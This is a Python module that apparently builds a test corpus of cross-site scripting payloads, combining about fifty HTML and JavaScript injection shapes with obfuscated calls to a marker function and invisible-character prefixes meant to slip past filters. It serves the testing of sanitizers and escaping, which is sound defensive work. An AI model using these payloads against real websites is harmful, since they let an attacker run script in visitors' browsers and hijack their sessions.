"""Scripts in disguise: what runs `xss()` if a page ever takes somebody's text for its own."""

from collections.abc import Iterator
from itertools import count, product

CALLS = (
    "xss()",
    "xss`1`",
    "window['xss']()",
    "top.xss&#40;&#41;",
    "self[`xss`]()",
    "(0,xss)()",
    "eval('xss()')",
    "xss&lpar;&rpar;",
)
SHAPES = (
    "<script>{}</script>",
    "\"><script>{}</script>",
    "'><script>{}</script>",
    "</textarea><script>{}</script>",
    "</title><script>{}</script>",
    "--><script>{}</script>",
    "]]><script>{}</script>",
    "<ScRiPt\n>{}</sCrIpT\t>",
    "<script/src=data:,{}></script>",
    "<img src=x onerror={}>",
    "<img src=x onerror=\"{}\">",
    "\"><img src=x onerror={}>",
    "' onfocus={} autofocus='",
    "\" onfocus={} autofocus tabindex=1 x=\"",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror={}>",
    "<iframe srcdoc=\"<script>parent.{}</script>\"></iframe>",
    "<iframe src=\"javascript:parent.{}\"></iframe>",
    "<object data=\"javascript:{}\"></object>",
    "<embed src=\"javascript:{}\">",
    "<a href=\"javascript:{}\" id=press>press</a>",
    "<form action=\"javascript:{}\"><button id=press>press</button></form>",
    "<details open ontoggle={}>x",
    "<video><source onerror={}>",
    "<audio src=x onerror={}>",
    "<input onfocus={} autofocus>",
    "<select onfocus={} autofocus><option>x</select>",
    "<body onload={}>",
    "<marquee onstart={}>x</marquee>",
    "<style>@keyframes x{{}}</style><b style=\"animation:x 1s\" onanimationstart={}>x</b>",
    "<link rel=stylesheet href=\"data:text/css,*{{color:red}}\"><img src=x onerror={}>",
    "<meta http-equiv=refresh content=\"0;url=javascript:{}\">",
    "<base href=\"javascript:{}//\">",
    "<template><script>{}</script></template><img src=x onerror={}>",
    "<noscript><p title=\"</noscript><img src=x onerror={}>\">",
    "<p style=\"background:url(javascript:{})\">x",
    "[press](javascript:{})",
    "![x](x\"onerror=\"{})",
    "<javascript:{}>",
    "{{{{constructor.constructor('{}')()}}}}",
    "${{{}}}",
    "<x contenteditable onblur={} autofocus tabindex=1>x",
    "<img/src=`x`onerror={}>",
    "<img src=x:x onerror\x0b={}>",
    "\u003cscript\u003e{}\u003c/script\u003e",
    "&lt;script&gt;{}&lt;/script&gt;",
    "%3Cscript%3E{}%3C/script%3E",
    "<<script>{}//<</script>",
    "javascript:{}",
)  # fmt: skip
SPOILERS = ("", "\u2028", "\u200b", " \t", "<!-->", "\u202e")


def payloads() -> Iterator[str]:
    """Every shape with every call, the plainest first; each is unlike all others."""
    numbers = count(1)
    for spoiler, call, shape in product(SPOILERS, CALLS, SHAPES):
        yield f"{spoiler}{shape.format(call, call)}p{next(numbers)}q"
